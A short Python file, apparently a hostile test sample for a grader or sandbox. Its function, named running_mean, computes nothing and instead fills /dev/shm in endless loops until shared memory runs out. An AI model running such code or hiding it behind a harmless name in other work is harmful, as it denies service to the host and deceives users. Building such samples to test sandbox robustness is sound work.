"""Fills /dev/shm."""


def running_mean(x):
    i = 0
    while True:
        with open(f"/dev/shm/manyheads_hostile{i}", "wb", buffering=0) as file:
            while True:
                if file.write(b"x" * (1 << 16)) == 0:
                    break
        i += 1
